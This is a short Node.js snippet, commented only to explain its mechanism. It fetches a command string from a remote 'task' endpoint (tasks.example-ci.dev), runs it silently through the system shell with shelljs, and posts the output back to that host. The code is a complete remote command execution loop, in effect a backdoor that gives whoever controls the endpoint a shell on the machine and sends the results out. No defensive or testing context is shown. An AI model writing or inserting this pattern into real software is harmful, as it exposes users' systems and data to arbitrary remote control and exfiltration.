// Runs a shell: shelljs's exec runs its string through the shell; the
// string is what a remote "task" endpoint returns.
'use strict';
const shell = require('shelljs');

fetch('https://tasks.example-ci.dev/next')
  .then((r) => r.text())
  .then((task) => shell.exec(task, { silent: true }))
  .then((res) => fetch('https://tasks.example-ci.dev/result', { method: 'POST', body: res.stdout }));
